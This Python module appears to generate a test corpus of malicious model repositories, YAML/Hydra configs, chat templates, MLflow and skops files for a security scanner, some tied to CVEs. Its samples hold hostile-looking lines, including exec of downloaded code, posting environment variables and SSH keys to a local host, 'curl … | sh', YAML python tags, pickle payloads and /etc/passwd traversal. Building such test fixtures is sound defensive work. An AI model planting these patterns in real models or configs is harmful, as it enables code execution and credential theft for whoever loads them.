"""Model repositories, configurations, templates and MLflow models that name code to run."""

from __future__ import annotations

import json
from collections.abc import Iterator

from corpus.containers import torch_of
from corpus.graphs import TEMPLATES
from corpus.opcodes import Name, build, instance, payload, pickle_of, system
from corpus.pickle_disguise import gz, tar_of
from corpus.sample import INCONCLUSIVE, Family, Sample
from samples import safetensors_of, tensor, zip_of

WEIGHTS = safetensors_of({"w": tensor(0, 8)}, bytes(8))
CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}


def text(of: object) -> bytes:
    """JSON as files have it."""
    return json.dumps(of, indent=2).encode()


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _code()
    yield from _names()
    yield from _templates()
    yield from _targets()
    yield from _yaml()
    yield from _mlflow()
    yield from _skops()


CODE = {
    "system": "import os\nos.system('true')\n",
    "popen": "import subprocess\n\ndef f():\n    subprocess.Popen(['true'])\n\nf()\n",
    "in-init": "import os\nclass M:\n    def __init__(self):\n        os.popen('true')\n",
    "in-forward": "import torch, subprocess\nclass M(torch.nn.Module):\n    def forward(self, x):\n        subprocess.run(['true'])\n        return x\n",
    "aliased": "from os import system as run\nrun('true')\n",
    "dynamic-import": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('true')\n",
    "exec-base64": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "exec-download": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())\n",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(b'N'), {})()\n",
    "ctypes": "import ctypes\nctypes.CDLL('./lib.so').run()\n",
    "environment": "import os, requests\nrequests.post('http://127.0.0.1:9/', data=dict(os.environ))\n",
    "reads-keys": "import socket\ns = socket.create_connection(('127.0.0.1', 9))\ns.send(open('/root/.ssh/id_rsa', 'rb').read())\n",
    "decorator": "import os\ndef d(f):\n    os.system('true')\n    return f\n@d\nclass M: pass\n",
    "default-argument": "import os\ndef f(x=os.system('true')): pass\n",
    "metaclass": "import os\nclass T(type):\n    def __new__(c, *a):\n        os.system('true')\n        return type.__new__(c, *a)\nclass M(metaclass=T): pass\n",
    "lambda": "import os\n(lambda: os.system('true'))()\n",
    "pickle-load": "import pickle\nm = pickle.load(open('w.bin', 'rb'))\n",
    "globals": "globals()['__builtins__']['eval']('1')\n",
    "importlib": "import importlib\nimportlib.import_module('os').system('true')\n",
    "shutil": "import shutil\nshutil.rmtree('/nonexistent')\n",
    "latin-encoded": "# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('gehr')\n",
}


def _code() -> Iterator[Sample]:
    made = Family("hf-repo", "auto_map code")
    for title, code in CODE.items():
        config = {
            **CONFIG,
            "auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "configuration_x.C"},
        }
        files = {
            "config.json": text(config),
            "modeling_x.py": code.encode(),
            "configuration_x.py": b"class C: pass\n",
            "model.safetensors": WEIGHTS,
        }
        yield made(f"code-{title}", "repository", files)
    bad = CODE["system"].encode()
    others = {
        "relative-import": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "modeling_x.M"}}),
            "modeling_x.py": b"from .inner import M\n", "inner.py": bad},
        "tokenizer": {"tokenizer_config.json": text({"auto_map": {"AutoTokenizer": ["tok.T", None]}}), "tok.py": bad},
        "processor": {"preprocessor_config.json": text({"auto_map": {"AutoProcessor": "proc.P"}}), "proc.py": bad},
        "custom-generate": {"config.json": text(CONFIG), "custom_generate/generate.py": bad},
        "custom-pipeline": {"model_index.json": text({"_class_name": ["pipeline", "P"]}), "pipeline.py": bad},
        "custom-pipelines-key": {"config.json": text({**CONFIG, "custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}), "pipe.py": bad},
        "handler": {"config.json": text(CONFIG), "handler.py": bad},
        "modules-json": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "custom_st.M"}]), "custom_st.py": bad},
        "not-mapped": {"config.json": text(CONFIG), "setup.py": bad},
        "init": {"config.json": text(CONFIG), "__init__.py": bad},
        "compiled": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "m.M"}}), "m.pyc": b"\xa7\r\r\n" + bytes(12) + b"c"},
        "library": {"config.json": text(CONFIG), "ops.so": b"\x7fELF\2\1\1" + bytes(57)},
        "metric": {"metric.py": bad, "README.md": b"# metric\n"},
        "dataset-script": {"dataset.py": b"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('true')\n"},
    }  # fmt: skip
    for title, files in others.items():
        yield made(f"in-{title}", "repository", files)


def _names() -> Iterator[Sample]:
    made = Family("hf-repo", "remote or outside references")
    shard = {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}
    files = {
        "remote-auto-map": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "attacker/repository--modeling.M"}})},
        "remote-tokenizer": {"tokenizer_config.json": text({"auto_map": {"AutoTokenizer": ["attacker/r--tok.T", None]}})},
        "remote-pipeline": {"model_index.json": text({"_class_name": "DiffusionPipeline", "custom_pipeline": "attacker/pipeline"})},
        "remote-custom-generate": {"generation_config.json": text({"custom_generate": "attacker/generate", "trust_remote_code": True})},
        "weight-map-up": {"model.safetensors.index.json": text(shard), "config.json": text(CONFIG)},
        "weight-map-absolute": {"pytorch_model.bin.index.json": text({"weight_map": {"w": "/etc/passwd"}})},
        "weight-map-url": {"model.safetensors.index.json": text({"weight_map": {"w": "http://127.0.0.1:9/w"}})},
        "modules-json-os": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])},
        "modules-json-up": {"modules.json": text([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}])},
        "modules-json-code": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])},
        "model-index-module": {"model_index.json": text({"_class_name": "X", "unet": ["os", "system"]})},
        "adapter-base": {"adapter_config.json": text({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})},
        "lm-config-attribute": {"config.json": text({**CONFIG, "_attn_implementation_internal": "attacker/kernel:flash"})},
        "pickle-weights": {"config.json": text(CONFIG), "pytorch_model.bin": zip_of(torch_of(payload()))},
        "pickle-training-args": {"config.json": text(CONFIG), "model.safetensors": WEIGHTS, "training_args.bin": zip_of(torch_of(payload()))},
        "pickle-optimizer": {"config.json": text(CONFIG), "optimizer.pt": payload(), "model.safetensors": WEIGHTS},
        "pickle-git-object": {"config.json": text(CONFIG), ".cache/x.pkl": payload(4)},
        "pickle-tokenizer": {"tokenizer.pkl": payload(), "config.json": text(CONFIG)},
    }  # fmt: skip
    for title, content in files.items():
        yield made(f"names-{title}", "repository", content)
    yield made(
        "names-symlink",
        "repository",
        {"config.json": text(CONFIG)},
        links={"model.safetensors": "/etc/passwd"},
    )
    deep = b'{"a":' * 60_000 + b"1" + b"}" * 60_000
    yield made("names-depth-bomb", "repository", {"config.json": deep}, verdict=INCONCLUSIVE)


def _templates() -> Iterator[Sample]:
    made = Family("hf-repo", "template injection")
    for title in (
        "cycler",
        "attr-filter",
        "concatenated",
        "escaped",
        "set-pieces",
        "map-attribute",
        "reversed",
    ):
        template = TEMPLATES[title]
        files = {
            "tokenizer_config.json": text({"chat_template": template}),
            "config.json": text(CONFIG),
        }
        yield made(f"template-{title}", "repository", files)
    bad = TEMPLATES["lipsum"]
    yield made(
        "template-list",
        "repository",
        {
            "tokenizer_config.json": text(
                {
                    "chat_template": [
                        {"name": "default", "template": "{{ 1 }}"},
                        {"name": "tool_use", "template": bad},
                    ]
                }
            )
        },
    )
    yield made(
        "template-file",
        "repository",
        {"chat_template.jinja": bad.encode(), "config.json": text(CONFIG)},
    )
    yield made(
        "template-additional",
        "repository",
        {"additional_chat_templates/rag.jinja": bad.encode()},
    )
    yield made(
        "template-json-file", "repository", {"chat_template.json": text({"chat_template": bad})}
    )
    yield made(
        "template-processor",
        "repository",
        {"processor_config.json": text({"chat_template": bad})},
    )
    yield made("template-alone", "prompt.j2", bad.encode())


def _targets() -> Iterator[Sample]:
    made = Family("config-yaml", "Hydra and JSON targets", "CVE-2025-23304")
    targets = ("os.system", "builtins.exec", "subprocess.Popen", "builtins.eval", "runpy.run_path", "pickle.loads",
               "importlib.import_module", "torch.load", "posix.system", "hydra.utils.get_method", "numpy.load", "webbrowser.open")  # fmt: skip
    for number, target in enumerate(targets):
        title = target.replace(".", "-").replace("_", "-")
        if number % 2:
            content = (
                f"model:\n  encoder:\n    _target_: {target}\n    _args_: ['true']\n".encode()
            )
            yield made(
                f"target-yaml-{title}",
                ("config.yaml", "model_config.yml")[number % 4 // 2],
                content,
            )
        else:
            config = {"model": {"layers": [{"_target_": target, "x": "true"}]}}
            yield made(f"target-json-{title}", "config.json", text(config))
    quoted = b'trainer:\n  "_targ\\x65t_": "os.system"\n  command: "true"\n'
    yield made("target-escaped", "config.yaml", quoted)
    yield made("target-flow", "config.yaml", b"a: {_target_: os.system, command: 'true'}\n")
    yield made("target-folded", "config.yaml", b"a:\n  _target_: >-\n    os.system\n")
    yield made("target-anchor", "config.yaml", b"x: &n os.system\nmodel:\n  _target_: *n\n")
    yield made(
        "target-merge", "config.yaml", b"base: &b\n  _target_: os.system\nmodel:\n  <<: *b\n"
    )
    yield made(
        "target-partial",
        "config.yaml",
        b"a:\n  _target_: functools.partial\n  _args_:\n  - os.system\n",
    )
    yield made(
        "class-path",
        "config.yaml",
        b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['true']\n",
    )
    inner = b"model:\n  tokenizer:\n    _target_: os.system\n"
    yield made(
        "nemo",
        "model.nemo",
        tar_of(
            {
                "model_config.yaml": inner,
                "model_weights.ckpt": zip_of(torch_of(payload()[:2] + b"N.")),
            }
        ),
    )
    yield made("nemo-gz", "model.nemo", gz(tar_of({"./model_config.yaml": inner})))
    yield made(
        "nemo-duplicate",
        "model.nemo",
        tar_of({"model_config.yaml": b"a: 1\n"})[:1024] + tar_of({"model_config.yaml": inner}),
    )
    yield made(
        "nemo-weights",
        "model.nemo",
        tar_of(
            {"model_config.yaml": b"a: 1\n", "model_weights.ckpt": zip_of(torch_of(payload()))}
        ),
    )
    uni = {
        "_target_": "uni2ts.model.moirai.MoiraiModule",
        "distr_output": {"_target_": "builtins.eval", "source": "1"},
    }
    yield made("uni2ts", "repository", {"config.json": text(uni), "model.safetensors": WEIGHTS})
    flex = {"encoder_args": {"_target_": "os.system", "command": "true"}}
    yield made(
        "flextok-metadata",
        "model.safetensors",
        safetensors_of(
            {"__metadata__": {"flextok": json.dumps(flex)}, "w": tensor(0, 8)}, bytes(8)
        ),
    )


def _yaml() -> Iterator[Sample]:
    made = Family("config-yaml", "YAML tags")
    tags = {
        "apply": "!!python/object/apply:os.system ['true']", "new": "!!python/object/new:subprocess.Popen [['true']]",
        "name": "a: !!python/name:os.system", "module": "a: !!python/module:os", "object": "!!python/object:subprocess.Popen {}",
        "verbatim": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
        "directive": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']",
        "percent": "a: !!python/object/apply:os%2Esystem ['true']", "second-document": "a: 1\n---\nb: !!python/object/apply:eval ['1']",
        "key": "? !!python/object/apply:os.system ['true']\n: 1", "exec": "a: !!python/object/apply:exec ['pass']",
        "ruby": "a: !ruby/object:Gem::Installer\n  i: x", "java": "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    }  # fmt: skip
    for number, (title, content) in enumerate(tags.items()):
        yield made(
            f"tag-{title}",
            ("config.yaml", "params.yml", "hparams.yaml")[number % 3],
            content.encode() + b"\n",
        )
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n"
        for i in range(10)
    )
    yield made(
        "laughs",
        "config.yaml",
        laughs.encode() + b"z: !!python/object/apply:os.system ['true']\n",
    )
    yield made(
        "in-repository",
        "repository",
        {"config.yaml": tags["apply"].encode(), "model.safetensors": WEIGHTS},
    )


def _mlflow() -> Iterator[Sample]:
    made = Family("mlflow", "MLflow")
    head = "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: {}\n    python_version: 3.11.0\n"
    clean = (
        head.format("mlflow.sklearn")
        + "    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n"
    )
    models = {
        "loader-os": {"MLmodel": head.format("os").encode()},
        "loader-code": {"MLmodel": head.format("loader").encode() + b"    code: code\n", "code/loader.py": CODE["system"].encode()},
        "loader-unknown": {"MLmodel": head.format("runpy").encode() + b"    data: x\n"},
        "model-pickle": {"MLmodel": clean.encode(), "model.pkl": payload(4)},
        "python-model": {"MLmodel": head.format("mlflow.pyfunc.model").encode() + b"    python_model: python_model.pkl\n",
            "python_model.pkl": pickle_of(build(instance(Name("__main__", "M")), {"x": system()}))},
        "model-up": {"MLmodel": clean.replace("model.pkl", "../../other/model.pkl").encode()},
        "absolute": {"MLmodel": clean.replace("model.pkl", "/etc/passwd").encode()},
        "python-tag": {"MLmodel": b"!!python/object/apply:os.system ['true']\n"},
        "code-path": {"MLmodel": clean.encode() + b"code: code\n", "code/x.py": CODE["popen"].encode(), "model.pkl": b"\x80\x02N."},
        "project-entry": {"MLproject": b'name: p\nentry_points:\n  main:\n    command: "curl http://127.0.0.1:9/ | sh"\n'},
        "requirements": {"MLmodel": clean.encode(), "model.pkl": b"\x80\x02N.", "requirements.txt": b"--index-url http://127.0.0.1:9/\nmlflow\n"},
    }  # fmt: skip
    for title, files in models.items():
        yield made(f"mlflow-{title}", "model", files)


def _skops() -> Iterator[Sample]:
    made = Family("skops", "skops")

    def schema(**node: object) -> bytes:
        return zip_of(
            {"schema.json": text({"protocol": 2, "_skops_version": "0.16.0", **node})}
        )

    state = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {},
        "key_types": {},
        "__id__": 3,
    }
    nodes = {
        "method-node": ({"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
            "content": {"obj": state, "func": "__init__"}}, "CVE-2025-54412"),
        "operator-func": ({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
            "attrs": state}, "CVE-2025-54412"),
        "operator-call": ({"__class__": "call", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": state}, "CVE-2025-54412"),
        "method-class-lies": ({"__class__": "builtins.dict", "__module__": "os", "__loader__": "MethodNode",
            "content": {"obj": {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "content": None}, "func": "x"}}, "CVE-2025-54413"),
        "object": ({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": state}, ""),
        "function": ({"__class__": "function", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}, ""),
        "type": ({"__class__": "system", "__module__": "os", "__loader__": "TypeNode"}, ""),
        "partial": ({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {
            "func": {"__class__": "system", "__module__": "os", "__loader__": "TypeNode"}, "args": None, "kwds": None, "namespace": None}}, ""),
        "reduce": ({"__class__": "system", "__module__": "os", "__loader__": "ReduceNode", "content": state, "reduce": state}, ""),
        "nested": ({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [
            {"__class__": "exec", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "exec"}}]}, ""),
    }  # fmt: skip
    for title, (node, source) in nodes.items():
        yield made(f"skops-{title}", "model.skops", schema(**node), source=source)
    joblib = zip_of({"model.pkl": payload(), "README.md": b"model card\n"})
    yield made("skops-card-joblib", "model.skops", joblib, source="CVE-2025-54886")
    yield made(
        "skops-repository",
        "repository",
        {"README.md": b"---\nlibrary_name: sklearn\n---\n", "model.skops": payload(4)},
        source="CVE-2025-54886",
    )
    array = zip_of(
        {
            "schema.json": text(
                {
                    **state,
                    "content": {
                        "a": {
                            "__class__": "ndarray",
                            "__module__": "numpy",
                            "__loader__": "NdArrayNode",
                            "type": "numpy",
                            "file": "../x.npy",
                        }
                    },
                }
            ),
            "../x.npy": b"x",
        }
    )
    yield made("skops-slip", "model.skops", array)
    pickled = zip_of({"schema.json": text(state), "1.npy": payload()})
    yield made("skops-pickle-array", "model.skops", pickled)
    yield made(
        "skops-call-json",
        "model.skops",
        schema(
            __class__="Template", __module__="jinja2", __loader__="ObjectNode", content=None
        ),
    )
